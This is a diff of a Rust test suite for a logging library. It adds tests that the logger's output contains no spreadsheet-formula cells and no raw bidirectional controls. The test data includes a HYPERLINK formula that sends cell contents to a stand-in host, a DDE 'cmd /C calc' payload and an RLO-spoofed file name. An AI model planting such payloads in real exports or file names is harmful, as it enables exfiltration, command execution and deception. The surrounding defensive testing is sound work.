@@ -22,7 +22,7 @@
 use std::io::Write as _;
 use std::net::SocketAddr;
 use std::path::{Path, PathBuf};
-use std::process::{Child, Command, Stdio};
+use std::process::Command;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::sync::OnceLock;
 use std::time::Duration;
@@ -32,6 +32,7 @@ use dplog_core::{schema, Formatter, Logger, LoggerConfig, Record, RecordHeader, 
 use dplog_formatters::ipfix::split_messages;
 use dplog_formatters::{binary, Format, FormatSpec, SchemaFormatter};
 use dplog_sinks::{FileSink, SyslogSink, SyslogSinkOptions, SyslogTransport};
+use dplog_testkit::rsyslog::Rsyslogd;
 use dplog_testkit::tshark;
 use proptest::prelude::*;
 use proptest::test_runner::{Config, TestRunner};
@@ -209,12 +210,14 @@ fn json_value(p: &Probe) -> Value {
 /// What an RFC 5424 parser that unescapes PARAM-VALUEs itself (by the
 /// RFC: a backslash before any character but `"`, `\` and `]` is kept)
 /// delivers: the value with every control character (Unicode's Cc: C0,
-/// DEL, C1), U+2028, U+2029 and each byte of invalid UTF-8 as `\xNN`.
+/// DEL, C1), U+2028, U+2029, the bidirectional controls and each byte of
+/// invalid UTF-8 as `\xNN`.
 fn rfc_level(v: &[u8]) -> String {
     let mut o = String::new();
     for chunk in v.utf8_chunks() {
         for c in chunk.valid().chars() {
-            if c.is_control() || c == '\u{2028}' || c == '\u{2029}' {
+            let bidi = matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+            if c.is_control() || c == '\u{2028}' || c == '\u{2029}' || bidi {
                 let mut b = [0u8; 4];
                 for x in c.encode_utf8(&mut b).bytes() {
                     o += &format!("\\x{x:02x}");
@@ -294,13 +297,17 @@ def each(parse, items):
 mode, path = sys.argv[1], sys.argv[2]
 data = open(path, "rb").read().decode("utf-8")
 lines = data.splitlines()
+formula = 0
 if mode == "csv":
-    rows = each(csv_row, csv.reader(io.StringIO(data, newline=""), strict=True))
+    raw = list(csv.reader(io.StringIO(data, newline=""), strict=True))
+    # Cells a spreadsheet would run as a formula.
+    formula = sum(1 for r in raw for c in r if c[:1] in ("=", "+", "-", "@"))
+    rows = each(csv_row, raw)
 else:
     parse = {"json": json.loads, "text": text, "template": template,
              "rfc5424": rfc5424, "rfc3164": rfc3164}[mode]
     rows = each(parse, lines)
-print(json.dumps({"lines": len(lines), "rows": rows}))
+print(json.dumps({"lines": len(lines), "rows": rows, "formula": formula}))
 "#;
 
 /// The file at `path`, for an assertion's message.
@@ -322,7 +329,21 @@ fn read_back(mode: &str, path: &Path) -> (u64, Vec<Value>) {
         String::from_utf8_lossy(&out.stderr),
         String::from_utf8_lossy(&std::fs::read(path).unwrap_or_default())
     );
+    if matches!(mode, "text" | "template" | "json" | "csv") {
+        // Shown as written: no raw bidirectional control reorders a line.
+        let data = String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned();
+        let bidi = data.chars().find(|c| {
+            matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+        });
+        assert_eq!(bidi, None, "{mode}: a raw bidirectional control\n{data}");
+    }
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        v["formula"],
+        0,
+        "{mode}: a cell a spreadsheet reads as a formula\n{}",
+        show(path)
+    );
     let rows = v["rows"].as_array().unwrap().clone();
     (v["lines"].as_u64().unwrap(), rows)
 }
@@ -455,29 +476,15 @@ fn check_csv(dir: &Path, recs: &[Probe]) {
 
 /// rsyslogd on 127.0.0.1 (TCP, octet counting) writing what it parsed
 /// from each message, as one JSON object per line, to `<APP-NAME>.log`.
-struct Rsyslog {
-    dir: tempfile::TempDir,
-    child: Child,
-    port: u16,
-}
-
-const RSYSLOGD: &str = "/usr/sbin/rsyslogd";
+struct Rsyslog(Rsyslogd);
 
 impl Rsyslog {
     fn start() -> Rsyslog {
-        assert!(
-            Path::new(RSYSLOGD).exists(),
-            "{RSYSLOGD} not installed (run scripts/setup.sh)"
-        );
-        let dir = tempfile::tempdir().unwrap();
-        let port = dplog_testkit::free_tcp_port();
-        let d = dir.path().display();
-        let conf = format!(
-            r#"global(workDirectory="{d}" maxMessageSize="64k")
-module(load="imtcp")
+        Rsyslog(Rsyslogd::start_tcp(
+            r#"module(load="imtcp")
 module(load="mmpstrucdata")
 input(type="imtcp" address="127.0.0.1" port="{port}")
-template(name="props" type="list" option.jsonf="on") {{
+template(name="props" type="list" option.jsonf="on") {
   property(outname="host" name="hostname" format="jsonf")
   property(outname="app" name="app-name" format="jsonf")
   property(outname="tag" name="syslogtag" format="jsonf")
@@ -485,32 +492,12 @@ template(name="props" type="list" option.jsonf="on") {{
   property(outname="sd" name="structured-data" format="jsonf")
   property(outname="parsed" name="$!rfc5424-sd" format="jsonf")
   property(outname="msg" name="msg" format="jsonf")
-}}
-template(name="file" type="string" string="{d}/%app-name%.log")
+}
+template(name="file" type="string" string="{dir}/%app-name%.log")
 action(type="mmpstrucdata" sd_name.lowercase="off")
 action(type="omfile" dynaFile="file" template="props" flushOnTXEnd="on" asyncWriting="off")
-"#
-        );
-        let conf_path = dir.path().join("rsyslog.conf");
-        std::fs::write(&conf_path, conf).unwrap();
-        let mut child = Command::new(RSYSLOGD)
-            .arg("-n")
-            .arg("-f")
-            .arg(&conf_path)
-            .arg("-i")
-            .arg(dir.path().join("rsyslogd.pid"))
-            .stdin(Stdio::null())
-            .stdout(Stdio::null())
-            .stderr(Stdio::null())
-            .spawn()
-            .expect("spawn rsyslogd");
-        dplog_testkit::wait_until("rsyslogd listens", Duration::from_secs(30), || {
-            if let Some(st) = child.try_wait().unwrap() {
-                panic!("rsyslogd exited ({st})");
-            }
-            dplog_testkit::tcp_listening(port)
-        });
-        Rsyslog { dir, child, port }
+"#,
+        ))
     }
 
     /// Sends `recs` and then `end` (a plain record whose query name is
@@ -518,13 +505,13 @@ action(type="omfile" dynaFile="file" template="props" flushOnTXEnd="on" asyncWri
     /// `marker` (the stream is in order: every message before it is in),
     /// returns the file it wrote and the records the logger wrote.
     fn send(&self, spec: &FormatSpec, recs: &[Probe], marker: &str) -> (PathBuf, u64) {
-        let addr = SocketAddr::from(([127, 0, 0, 1], self.port));
+        let addr = SocketAddr::from(([127, 0, 0, 1], self.0.port()));
         let sink = SyslogSink::new(SyslogSinkOptions::new(SyslogTransport::Tcp(addr))).unwrap();
         let mut all = recs.to_vec();
         all.push(Probe::new(marker.as_bytes(), b"ok"));
         let written = log_through(spec, sink, &all);
         let app = spec.syslog.app_name.clone().unwrap();
-        let path = self.dir.path().join(format!("{app}.log"));
+        let path = self.0.dir().join(format!("{app}.log"));
         dplog_testkit::wait_until(
             "rsyslogd writes the last message",
             Duration::from_secs(60),
@@ -534,15 +521,6 @@ action(type="omfile" dynaFile="file" template="props" flushOnTXEnd="on" asyncWri
             },
         );
         (path, written)
-    }
-}
-
-impl Drop for Rsyslog {
-    fn drop(&mut self) {
-        // SAFETY: kill(2) on the pid of a child we spawned and have not
-        // reaped yet.
-        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
-        let _ = self.child.wait();
     }
 }
 
@@ -690,6 +668,19 @@ fn nasty() -> Vec<Probe> {
             b"\t",
         ),
         ("é\u{a0}\u{1F600}中".as_bytes(), "é".as_bytes()),
+        // Formulas, as a spreadsheet would run them from a CSV cell.
+        (
+            &b"=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")"[..],
+            &b"@"[..],
+        ),
+        (b"+1+cmd|' /C calc'!A0", b"-"),
+        (b"-2+3", b"=1"),
+        // Bidirectional controls: a file name that displays as
+        // "adminexe.txt", an isolate run, the marks.
+        (
+            "admin\u{202e}txt.exe\u{202c} \u{2066}x\u{2069}\u{200f}\u{61c}".as_bytes(),
+            "\u{202d}".as_bytes(),
+        ),
         (b"", b""),
     ] {
         recs.push(Probe::new(q, t));
@@ -745,6 +736,7 @@ fn hostile(max: usize) -> impl Strategy<Value = Vec<u8>> {
         3 => prop::sample::select(vec![
             "\n", "\r", "\r\n", "\x1b[2J", "\x01", "\x00", "\"", "]", "\\", "\\x0a", ",", " ",
             "=", "\u{7f}", "\u{85}", "\u{9f}", "\u{2028}", "\u{2029}", "\u{feff}", "é",
+            "\u{202e}", "\u{2067}", "\u{200e}", "=", "+", "-", "@",
             "\u{1F600}", "<134>1 ",
         ])
         .prop_map(|s| s.as_bytes().to_vec()),
